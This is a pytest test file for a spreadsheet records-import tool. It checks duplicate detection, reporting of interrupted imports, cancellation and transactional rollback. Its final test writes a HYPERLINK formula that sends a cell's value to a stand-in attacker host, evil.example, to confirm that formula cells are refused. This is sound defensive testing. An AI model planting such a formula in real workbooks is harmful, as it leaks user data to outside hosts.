"""Import safety for people: the same workbook twice needs --again, an interrupted import is reported at the next
start, the plan's catalogues count, progress and cancel work, check and write are one transaction."""

from __future__ import annotations

from datetime import date

import pytest
from sqlalchemy import text


def _count(db, table="propaganda_activity") -> int:
    with db.read() as s:
        return s.execute(text(f"SELECT count(*) FROM {table}")).scalar()


@pytest.fixture
def empty_db(tmp_path):
    from commune_desk.storage.database import open_database

    db = open_database(tmp_path / "new.db")
    yield db
    db.dispose()


def test_the_same_workbook_twice_needs_again(cli, tmp_path):
    src, dst, book = tmp_path / "a.db", tmp_path / "b.db", tmp_path / "book.xlsx"
    assert cli("--db", src, "demo", "--seed", "4", "--year", "2025").returncode == 0
    assert cli("--db", src, "records", "export", book).returncode == 0
    assert cli("--db", dst, "records", "import", book, "--create").returncode == 0
    r = cli("--db", dst, "records", "import", book)
    assert r.returncode == 2 and "was already imported on" in r.stderr and "--again" in r.stderr
    assert "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) == 1


def test_again_imports_a_second_time_and_the_log_has_both(demo_db, empty_db, exported):
    import hashlib

    import openpyxl

    from commune_desk.services.records.records_import import AlreadyImported, import_records
    from commune_desk.storage.import_log import ImportLog

    wb = openpyxl.load_workbook(exported)  # propaganda only: no unique codes, so twice means twice as many
    for name in wb.sheetnames:
        if name not in ("_profile", "residential_units", "propaganda"):
            del wb[name]
    ws = wb["propaganda"]  # and without the teams they name (a team code is unique)
    column = [c.value for c in ws[1]].index("team_code") + 1
    for row in range(3, ws.max_row + 1):
        ws.cell(row, column).value = None
    wb.save(exported)
    first = import_records(empty_db, exported, "t", today=date(2026, 11, 20))
    n = _count(empty_db)
    assert first.counts["propaganda"] == n > 0
    with pytest.raises(AlreadyImported) as info:
        import_records(empty_db, exported, "t", today=date(2026, 11, 20))
    assert "so-lieu.xlsx was already imported on" in str(info.value)
    assert _count(empty_db) == n
    dry = import_records(empty_db, exported, "t", today=date(2026, 11, 20), dry_run=True)  # a dry run may look
    assert dry.counts["propaganda"] == n
    import_records(empty_db, exported, "t", today=date(2026, 11, 20), again=True)
    assert _count(empty_db) == 2 * n
    digest = hashlib.sha256(exported.read_bytes()).hexdigest()
    assert ImportLog(empty_db).committed_with(digest).id == 1
    with empty_db.read() as s:
        assert (
            s.execute(
                text("SELECT count(*) FROM import_log WHERE sha256 = :d AND committed_at IS NOT NULL"), {"d": digest}
            ).scalar()
            == 2
        )
    assert ImportLog(empty_db).unreported() == []


def test_an_interrupted_import_is_reported_at_the_next_start(cli, tmp_path):
    from commune_desk.storage.database import open_database
    from commune_desk.storage.import_log import ImportLog

    db_path = tmp_path / "c.db"
    assert cli("--db", db_path, "demo", "--seed", "2").returncode == 0
    db = open_database(db_path)
    try:
        log = ImportLog(db)
        cut = log.start("records", "thang-10.xlsx", "a" * 64, "cli")  # killed before its commit
        done = log.start("records", "thang-11.xlsx", "b" * 64, "cli")  # killed after its commit
        with db.write() as s:
            ImportLog.commit(s, done, {"propaganda": 7})
        # Both were started by this (live) test process: make them look like a dead one's.
        with db.write() as s:
            s.execute(text("UPDATE import_log SET owner = 'elsewhere:1'"))
    finally:
        db.dispose()
    r = cli("--db", db_path, "profile", "show")
    assert r.returncode == 0
    assert "thang-10.xlsx" in r.stderr and "did not finish; nothing of it was saved" in r.stderr
    assert "thang-11.xlsx" in r.stderr and "was completed (7 records saved)" in r.stderr
    again = cli("--db", db_path, "profile", "show")
    assert "thang-1" not in again.stderr  # said once
    assert cut != done


def test_a_plan_catalogue_code_imports(demo_db, tmp_path):
    """A record made with a code from the plan's cat_* sheet exports and imports again (before: refused)."""
    import openpyxl

    from commune_desk.services.records.records_import import import_records
    from commune_desk.services.records.records_workbook import export_records
    from commune_desk.storage.database import open_database
    from commune_desk.storage.plan_repo import PlanRepository
    from tests.plans.helpers import simple_plan

    from commune_desk.services.plans.catalogues import default_catalogues

    forms = [{"code": e.code, "label": e.label} for e in default_catalogues()["activity_forms"].entries]
    forms.append({"code": "loa_luu_dong", "label": "Loa lưu động"})  # the plan's own form
    plan = simple_plan(2026, catalogues={"activity_forms": forms})
    book = tmp_path / "book.xlsx"
    export_records(demo_db, book)
    wb = openpyxl.load_workbook(book)
    ws = wb["propaganda"]
    header = [c.value for c in ws[1]]
    # a row of 2026, the plan's year (the demo also holds a thinner 2025, where the plan's code does not apply)
    dated = header.index("activity_date") + 1
    row = next(r for r in range(2, ws.max_row + 1) if str(ws.cell(r, dated).value).startswith("2026"))
    ws.cell(row, header.index("form_code") + 1, "loa_luu_dong")
    for name in wb.sheetnames:
        if name not in ("_profile", "residential_units", "teams", "propaganda"):
            del wb[name]
    wb.save(book)
    fresh = open_database(tmp_path / "fresh.db")
    try:
        first = import_records(fresh, book, "t", today=date(2026, 11, 20), dry_run=True)
        assert any("loa_luu_dong" in str(p) for p in first.problems if p.severity == "error")
        PlanRepository(fresh, "t").store(plan, source_name="plan.xlsx")
        result = import_records(fresh, book, "t", today=date(2026, 11, 20))
        assert result.counts["propaganda"] == _count(demo_db)
    finally:
        fresh.dispose()


def test_progress_is_reported_and_cancel_stops_before_anything_is_written(demo_db, empty_db, exported):
    from commune_desk.services.records.records_import import ImportCancelled, import_records

    seen = []
    import_records(
        empty_db,
        exported,
        "t",
        today=date(2026, 11, 20),
        dry_run=True,
        progress=lambda step: seen.append((step.done, step.total)),
    )
    assert seen and all(0 <= d <= t for d, t in seen) and seen == sorted(seen) and seen[-1][0] > 0
    with pytest.raises(ImportCancelled):
        import_records(empty_db, exported, "t", today=date(2026, 11, 20), cancel=lambda: True)
    assert _count(empty_db) == 0 and _count(empty_db, "import_log") == 0


def test_check_and_write_are_one_transaction(demo_db, empty_db, exported, monkeypatch):
    """A failure in the middle of writing leaves nothing: not the profile, not the units, not the log entry."""
    from commune_desk.services.records import records_import
    from commune_desk.storage.repos import bulk

    real = bulk.bulk_insert
    calls = []

    def fail_late(*args, **kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise RuntimeError("power cut")
        return real(*args, **kwargs)

    monkeypatch.setattr(bulk, "bulk_insert", fail_late)
    before = {
        t: _count(empty_db, t)
        for t in ("setting", "residential_unit", "propaganda_activity", "import_log", "audit_log")
    }
    with pytest.raises(RuntimeError):
        records_import.import_records(empty_db, exported, "t", today=date(2026, 11, 20))
    after = {t: _count(empty_db, t) for t in before}
    assert after == before


def test_a_formula_cell_is_refused_with_its_place(demo_db, empty_db, exported):
    import openpyxl

    from commune_desk.services.records.records_import import WorkbookRefused, import_records

    wb = openpyxl.load_workbook(exported)
    wb["propaganda"]["D5"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    wb.save(exported)
    with pytest.raises(WorkbookRefused, match=r"sheet 'propaganda', cell D5 holds a formula"):
        import_records(empty_db, exported, "t", today=date(2026, 11, 20))
    assert _count(empty_db) == 0
